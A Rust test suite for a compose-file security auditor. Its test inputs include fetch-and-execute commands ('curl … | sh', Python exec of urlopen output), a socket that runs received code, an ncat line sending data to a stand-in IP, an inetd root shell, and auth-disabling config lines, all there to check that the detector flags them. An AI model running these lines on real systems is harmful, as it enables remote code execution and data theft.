//! What counts because it is not known to be harmless: names in the service's own texts, volumes that others write to,
//! switches by their sign, texts of other languages, steps of a build, lines of configuration files.
#![allow(missing_docs)]

mod common;

use common::*;
use veritee_audit::{Audit, Context};
use veritee_model::{Finding, FindingStatus, Severity};

fn digest(name: &str) -> String {
    format!("ghcr.io/acme/{name}@sha256:{}", "3f".repeat(32))
}

fn audited(text: &str, allowed: &[&str]) -> Audit {
    let image = format!("image: {}", digest("app"));
    let text = text.replace("SERVICE", &image).replace("BASE_IMAGE", &digest("base"));
    let context = Context { events: Some(events(kms(1))), ..Context::default() };
    attested(&app_compose(&text, allowed), context)
}

/// What is open: no pass, no remark, nothing that every document has.
fn open(audit: &Audit) -> Vec<&Finding> {
    const GENERAL: &[&str] = &["DP-ENV-018", "DP-CFG-009", "DP-ENV-014", "DP-SRC-003"];
    let counts = |finding: &&Finding| {
        !matches!(finding.status, FindingStatus::Pass | FindingStatus::Info)
            && finding.severity >= Severity::Medium
            && !GENERAL.contains(&finding.rule.as_str())
    };
    audit.findings.iter().filter(counts).collect()
}

fn said(audit: &Audit) -> Vec<String> {
    let line = |finding: &&Finding| {
        let path = finding.place.as_ref().map(|place| place.path.clone()).unwrap_or_default();
        format!("{} {} {path}: {}", finding.rule, finding.severity, finding.evidence)
    };
    open(audit).iter().map(line).collect()
}

#[track_caller]
fn counts(rule: &str, token: &str, text: &str, allowed: &[&str]) {
    let lines = said(&audited(text, allowed));
    assert!(
        lines.iter().any(|line| line.starts_with(rule) && line.contains(token)),
        "{rule} {token} is not said of\n{text}\nbut {lines:#?}"
    );
}

#[track_caller]
fn is_silent(text: &str, allowed: &[&str]) {
    let lines = said(&audited(text, allowed));
    assert!(lines.is_empty(), "of\n{text}\nis said {lines:#?}");
}

/// A service that gets `PORT` and `WORKERS` from whoever deploys, and runs a text of the shell.
fn shell(text: &str) -> String {
    let text = text.replace('$', "$$").replace('\\', "\\\\").replace('"', "\\\"");
    format!(
        "services:\n  app:\n    SERVICE\n    environment: [PORT, WORKERS]\n    command: [\"bash\", \"-c\", \"{text}\"]\n"
    )
}

#[test]
fn a_harmless_name_counts_where_the_shell_makes_more_of_its_value_than_a_word() {
    for text in [
        "serve --workers $WORKERS",
        "serve $((WORKERS * 2))",
        "for ((i=0;i<WORKERS;i++)); do serve & done",
        "[[ WORKERS -gt 2 ]] && serve",
        "test \"$WORKERS\" -gt 2 && serve",
        "case \"$WORKERS\" in 1) serve --auth=none;; *) serve;; esac",
        "if [ \"$WORKERS\" = x ]; then serve; fi",
        "n=WORKERS; serve \"${!n}\"",
        "w=\"$WORKERS\"; $w",
        "a=($WORKERS); \"${a[@]}\"",
        "set -- $WORKERS; \"$@\"",
        "r() { \"$@\"; }; r \"$WORKERS\"",
        "echo \"$WORKERS\" | dc",
        "echo \"$WORKERS\" > /etc/app.conf; serve",
        "cat <<E > /etc/app.conf\nworkers $WORKERS\nE\nserve",
        "PATH=\"$WORKERS:$PATH\" serve",
        "curl -T /data/db \"$WORKERS\"",
        "nginx -g \"daemon off; $WORKERS\"",
        "python3 -c \"import os; exec(os.environ['WORKERS'])\"",
        "node -e \"eval(process.env.WORKERS)\"",
        "sed \"s/x/$WORKERS/\" /t",
        "serve \"${WORKERS:+--trace}\"",
        "serve --plugin \"$WORKERS\"",
        "envsubst < /t > /etc/app.conf; serve",
        "awk \"{print $WORKERS}\" /t",
        "xargs -I{} sh -c {} <<< \"$WORKERS\"",
    ] {
        counts("DP-ENV-021 high", "WORKERS", &shell(text), &["PORT", "WORKERS"]);
    }
    for text in [
        "exec serve --workers \"$WORKERS\"",
        "exec serve --workers=\"${WORKERS:-4}\" \"$PORT\"",
        "export WORKERS=\"${WORKERS:-4}\"; exec serve",
        ": \"${WORKERS:=4}\"; exec serve -w \"$WORKERS\"",
        "w=\"${WORKERS:-4}\"; exec serve --workers \"$w\"",
        "echo \"with $WORKERS workers\"; exec serve",
        "exec timeout \"$PORT\" serve",
        "exec python3 main.py --workers \"$WORKERS\"",
        "python3 -c \"import os; print(os.environ['WORKERS'])\"; exec serve",
        "# WORKERS says how many\nexec serve",
        "while sleep 60; do curl -fs -m \"$PORT\" http://localhost/tick; done",
    ] {
        is_silent(&shell(text), &["PORT", "WORKERS"]);
    }
}

#[test]
fn a_harmless_name_counts_where_a_file_a_check_or_a_build_reads_it() {
    let with = |keys: &str, more: &str| {
        format!("services:\n  app:\n    SERVICE\n    environment: [PORT]\n    {keys}\n{more}")
    };
    let file = |target: &str, text: &str| {
        with(
            &format!("configs: [{{source: f, target: {target}}}]"),
            &format!("configs:\n  f:\n    content: |\n      {}\n", text.replace('\n', "\n      ")),
        )
    };
    for text in [
        with("healthcheck: {test: 'wget -qO- http://localhost:$$PORT/'}", ""),
        with("post_start: [{command: [sh, -c, 'eval $$PORT']}]", ""),
        file("/etc/nginx/templates/x.template", "server { listen $${PORT}; }"),
        file("/etc/caddy/Caddyfile", ":{$$PORT} {\n}"),
        file("/etc/supervisord.conf", "[program:a]\ncommand=/a --port %(ENV_PORT)s"),
        file("/site/sitecustomize.py", "import os\nos.execvp('sh', ['sh', '-c', os.environ['PORT']])"),
    ] {
        counts("DP-ENV-021 high", "PORT", &text, &["PORT"]);
    }
    for text in [
        with("healthcheck: {test: 'wget -qO- http://localhost:8080/'}", ""),
        file("/etc/app.ini", "[server]\nPORT=8080"),
        file("/start.sh", "#!/bin/sh\nexec serve --port \"$$PORT\""),
    ] {
        is_silent(&text, &["PORT"]);
    }
    // A text that compose splits, or a file, is left by a value that stands in it.
    counts(
        "DP-ENV-021 high",
        "LOG_LEVEL",
        &with("command: serve --log-level ${LOG_LEVEL}", ""),
        &["LOG_LEVEL"],
    );
    counts("DP-ENV-021 high", "LOG_LEVEL", &file("/a.json", "{\"log\": \"${LOG_LEVEL}\"}"), &["LOG_LEVEL"]);
    counts("DP-ENV-021 high", "PROFILE", &with("profiles: ['${PROFILE}']", ""), &["PROFILE"]);
}

#[test]
fn what_another_service_writes_counts_wherever_it_is_mentioned() {
    const OTHER: &str = "\n  other:\n    SERVICE\n    volumes: ['dd:/x']\nvolumes: {dd: {}}\n";
    let with =
        |keys: &str| format!("services:\n  app:\n    SERVICE\n    volumes: ['dd:/inbox']\n    {keys}{OTHER}");
    let file = |text: &str| {
        format!(
            "{}configs:\n  f:\n    content: |\n      {text}\n",
            with("configs: [{source: f, target: /etc/x.conf}]")
        )
    };
    for text in [
        with("working_dir: /inbox\n    command: [python3, -m, job]"),
        with("command: [make, -C, /inbox]"),
        with("command: [npm, --prefix, /inbox, start]"),
        with("command: [serve, --config, /inbox/c.yml]"),
        with("command: [sh, -c, 'cp /inbox/x /tmp/x && exec /tmp/x']"),
        with("command: [sh, -c, 'ln -sf /inbox/x /usr/local/bin/serve; exec serve']"),
        with("command: [sh, -c, 'find /inbox -name \"*.job\" -exec {} \\;']"),
        with("command: [sh, -c, '. \"$$(ls /inbox/* | head -n1)\"']"),
        with("command: [crontab, /inbox/tab]"),
        with("environment: {LUA_INIT: '@/inbox/i.lua'}"),
        with("environment: {SETTINGS: /inbox/../inbox/s.py}"),
        file("load_module /inbox/x.so;"),
        file("http { include /inbox/*.conf; }"),
        file("* * * * * root /inbox/x"),
        file("emperor = /inbox"),
    ] {
        counts("DP-CMP-023 high", "", &text, &[]);
    }
    for text in [
        with("command: [redis-server, --dir, /inbox]"),
        with("command: [serve, --upload-dir, /inbox/up]"),
        with("command: [sh, -c, 'cp /inbox/x /tmp/x; exec serve']"),
        with("command: [sh, -c, 'find /inbox -mtime +7 -delete; exec serve']"),
        with("command: [sh, -c, 'cat \"$$(ls /inbox/* | head -n1)\"; exec serve']"),
        with("environment: {DATA_DIR: /inbox}"),
        with("environment: {LUA_INIT: '@/etc/i.lua'}"),
        file("root /inbox;"),
        file("http { include /etc/nginx/mime.types; }"),
    ] {
        is_silent(&text, &[]);
    }
}

#[test]
fn a_text_of_another_language_is_harmless_word_by_word_or_it_counts() {
    let with = |words: &str| format!("services:\n  app:\n    SERVICE\n    command: {words}\n");
    for (rule, words) in [
        (
            "DP-CMP-006",
            r#"[python3, -c, "import urllib.request as u; exec(u.urlopen('https://acme.example/i').read())"]"#,
        ),
        (
            "DP-CMP-006",
            r#"[python3, -c, "import socket; s=socket.socket(40,1); s.connect((2,9000)); exec(s.recv(9))"]"#,
        ),
        ("DP-CMP-006", r#"[node, -e, "fetch(['https:','','a.example'].join('/'))"]"#),
        ("DP-CMP-006", r#"[julia, -e, "using Pkg; Pkg.add(\"Acme\")"]"#),
        ("DP-CMP-006", r#"[nix, run, 'acme#app']"#),
        ("DP-CMP-006", r#"[run, -A, 'jsr:@acme/app']"#),
        ("DP-CMP-006", r#"[doppler, run, --, serve]"#),
        ("DP-META-012", r#"[python3, -c, "getattr(__builtins__, 'ev'+'al')('1')"]"#),
        ("DP-META-012", r#"[sh, -c, "echo 'ydaer' | rev | sh"]"#),
        ("DP-META-012", r#"[sh, -c, "exec serve --up \"$$(cat /sys/block/vda/serial)\""]"#),
    ] {
        counts(&format!("{rule} high"), "app command", &with(words), &[]);
    }
    for words in [
        r#"[python3, -c, "import os; print(os.environ.get('HOME'))"]"#,
        r#"[node, -e, "setInterval(() => {}, 1000)"]"#,
        r#"[R, -e, 'shiny::runApp("/app")']"#,
        r#"[nix, --version]"#,
        r#"[sh, -c, "echo 'ydaer' | rev; exec serve"]"#,
    ] {
        is_silent(&with(words), &[]);
    }
    let said = said(&audited(&with(r#"[sh, -c, "pip install acme && exec serve"]"#), &[]));
    assert_eq!(said.len(), 1, "one command is said once: {said:#?}");
}

#[test]
fn pinned_inputs_are_said_of_a_build_of_which_every_step_is_understood() {
    let build = |extra: &str, text: &str| {
        let lines: String = text.lines().map(|line| format!("        {line}\n")).collect();
        format!("services:\n  app:\n    build:\n{extra}      dockerfile_inline: |\n{lines}")
    };
    let steps = |text: &str| build("", &format!("FROM BASE_IMAGE\n{text}"));
    for text in [
        steps(
            "SHELL [\"python3\", \"-c\"]\nRUN import urllib.request as u; exec(u.urlopen('https://a.example').read())",
        ),
        steps("RUN <<E\n#!/usr/bin/perl\nuse IO::Socket::INET; eval 'x';\nE"),
        steps("RUN curl -s acme.example.org/i | sh"),
        steps("RUN conda install -y acme"),
        steps("RUN acme-sync"),
        build("      args: {BASE: 'debian:latest'}\n", "ARG BASE=BASE_IMAGE\nFROM $${BASE}"),
        build("      args: ['BASE=debian:latest']\n", "ARG BASE=BASE_IMAGE\nFROM $${BASE}"),
    ] {
        counts("DP-IMG-009 high", "", &text, &[]);
    }
    for text in [
        steps("HEALTHCHECK CMD curl -s acme.example.org/i | sh\nCMD [\"serve\"]"),
        steps(
            "ENTRYPOINT [\"python3\", \"-c\", \"import urllib.request as u; exec(u.urlopen('https://a.example').read())\"]",
        ),
    ] {
        counts("DP-CMP-006 high", "", &text, &[]);
    }
    for text in [
        steps("RUN mkdir /app\nCMD [\"serve\"]"),
        steps("SHELL [\"python3\", \"-c\"]\nRUN print(1)"),
        steps("RUN <<E\n#!/usr/bin/perl\nprint \"ok\";\nE"),
        steps("HEALTHCHECK CMD curl -s 127.0.0.1/healthz\nCMD [\"serve\"]"),
        build("      args: {BASE: BASE_IMAGE}\n", "ARG BASE=debian:latest\nFROM $${BASE}"),
    ] {
        let lines = said(&audited(&text, &[]));
        assert!(
            lines.iter().all(|line| line.starts_with("DP-IMG-009 medium") && line.contains("pinned inputs")),
            "of\n{text}\nis said {lines:#?}"
        );
    }
}

#[test]
fn booleans_are_read_as_compose_reads_them() {
    for word in ["true", "'y'", "\"Y\"", "'yes'", "on", "'ON'"] {
        let text = format!("services:\n  app:\n    SERVICE\n    privileged: {word}\n");
        counts("DP-CMP-002", "privileged", &text, &[]);
    }
    for word in ["false", "'n'", "\"N\"", "'no'", "off"] {
        is_silent(&format!("services:\n  app:\n    SERVICE\n    privileged: {word}\n"), &[]);
    }
}

#[test]
fn a_configuration_text_counts_by_the_host_the_shell_and_the_open_door_that_it_names() {
    let file = |text: &str| {
        format!(
            "services:\n  app:\n    SERVICE\n    configs: [{{source: f, target: /etc/x.conf}}]\nconfigs:\n  f:\n    content: |\n      {}\n",
            text.replace('\n', "\n      ")
        )
    };
    for (rule, text) in [
        ("DP-URL-002", "*.* @@acme-cfg.net:514"),
        ("DP-URL-002", "archive_command = 'ncat 203.0.113.9 9000 < %p'"),
        ("DP-URL-002", "address=/api.acme.io/203.0.113.9"),
        ("DP-URL-002", "- type: s3\n  bucket: acme-backup"),
        ("DP-CMP-019", "TLS_REQCERT never"),
        ("DP-CMP-019", "[auth.anonymous]\nenabled = true"),
        ("DP-CMP-019", "host all all 0.0.0.0/0 trust"),
        ("DP-CMP-019", "auth: none"),
        ("DP-META-012", "9000 stream tcp nowait root /bin/sh sh -i"),
    ] {
        counts(rule, "configs.f.content", &file(text), &[]);
    }
    for text in [
        "*.* /var/log/all.log",
        "archive_command = '/bin/true'",
        "version: 1.2.3.4\nfile.name = a.b.c",
        "TLS_REQCERT demand",
        "[auth.anonymous]\nenabled = false",
        "host all all 172.16.0.0/12 scram-sha-256",
        "echo stream tcp nowait root internal",
        "email ops@acme.io",
    ] {
        is_silent(&file(text), &[]);
    }
}

#[test]
fn addresses_hold_passwords_and_names_hold_none() {
    let with =
        |text: &str| format!("services:\n  app:\n    SERVICE\n    environment: {text}\n  db:\n    SERVICE\n");
    counts("DP-CMP-015 high", "address", &with("{PROXY_URL: 'http://u:wE38G5UEd@proxy.example.com:1'}"), &[]);
    is_silent(&with("{DATABASE_URL: 'postgres://app@db:5432/app'}"), &[]);
    is_silent(&with("{SMTP_REPLY_TO: no-reply@example.com}"), &[]);
    counts("DP-URL-002", "kafka", &with("{BROKERS: 'k1.acme.kafka:9092'}"), &[]);
    counts("DP-URL-002", "203.0.113.5", &with("{PG: 'dbname=app hostaddr=203.0.113.5 user=a'}"), &[]);
    // Five names of one program: what is behind the first word says what they do.
    let names = ["ACME_A_URL", "ACME_B_URL", "ACME_C_URL", "ACME_D_URL", "ACME_QUEUE_DELAY_MS"];
    let literal: String = names.iter().take(4).map(|name| format!("{name}: 'http://db', ")).collect();
    is_silent(&with(&format!("{{{literal} ACME_QUEUE_DELAY_MS: }}")), &["ACME_QUEUE_DELAY_MS"]);
    counts("DP-ENV-021", "CRL_CACHE_TTL", &with("{CRL_CACHE_TTL: }"), &["CRL_CACHE_TTL"]);
}

#[test]
fn a_network_lets_in_what_its_options_say_and_unknown_options_are_said() {
    let with = |option: &str, value: &str| {
        format!(
            "services:\n  app:\n    SERVICE\n    networks: [inner]\nnetworks:\n  inner:\n    driver_opts:\n      {option}: {value}\n"
        )
    };
    let mode = "com.docker.network.bridge.gateway_mode_ipv4";
    for value in ["nat-unprotected", "routed", "${MODE}"] {
        counts("DP-NET-002", "gateway_mode_ipv4", &with(mode, value), &["MODE"]);
    }
    counts(
        "DP-NET-002",
        "gateway_mode_ipv6",
        &with("com.docker.network.bridge.gateway_mode_ipv6", "routed"),
        &[],
    );
    counts("DP-NET-002", "acme.mirror", &with("acme.mirror", "'on'"), &[]);
    for (option, value) in [
        (mode, "nat"),
        (mode, "isolated"),
        ("com.docker.network.driver.mtu", "'1450'"),
        ("com.docker.network.bridge.name", "br1"),
    ] {
        is_silent(&with(option, value), &[]);
    }
}

#[test]
fn a_runner_of_somebody_elses_jobs_and_a_console_of_another_language_are_ways_in() {
    for image in
        ["ghcr.io/actions/actions-runner", "gitlab/gitlab-runner", "gitea/act_runner", "acme/flowise"]
    {
        let text = format!("services:\n  app:\n    image: {image}@sha256:{}\n", "3f".repeat(32));
        counts("DP-CMP-007", "image", &text, &[]);
    }
    let option = "-Dclojure.server.repl={:port,5555,:accept,clojure.core.server/repl";
    let with = |end: &str| {
        format!(
            "services:\n  app:\n    SERVICE\n    environment:\n      JAVA_TOOL_OPTIONS: '{option}{end}}}'\n"
        )
    };
    counts("DP-CMP-007", "JAVA_TOOL_OPTIONS", &with(",:address,\"0.0.0.0\""), &[]);
    // On its own machine only, as every debugger there.
    counts("DP-CMP-019 medium", "JAVA_TOOL_OPTIONS", &with(""), &[]);
}

#[test]
fn a_host_of_one_label_is_a_service_of_the_document_or_somebody_elses() {
    let with = |host: &str| {
        format!(
            "services:\n  app:\n    SERVICE\n    environment:\n      PEER_ADDR: {host}\n  db:\n    SERVICE\n"
        )
    };
    counts("DP-URL-002", "node7", &with("node7:9000"), &[]);
    is_silent(&with("db:9000"), &[]);
    is_silent(&with("localhost:9000"), &[]);
}

#[test]
fn with_how_few_others_a_program_is_content_is_no_tuning() {
    let with = |name: &str| format!("services:\n  app:\n    SERVICE\n    environment: [{name}]\n");
    for name in ["MIN_PEERS", "P2P_MIN_PEERS", "MIN_RELAYS"] {
        counts("DP-ENV-021", name, &with(name), &[name]);
    }
    for name in ["MAX_PEERS", "MIN_WORKERS"] {
        is_silent(&with(name), &[name]);
    }
}
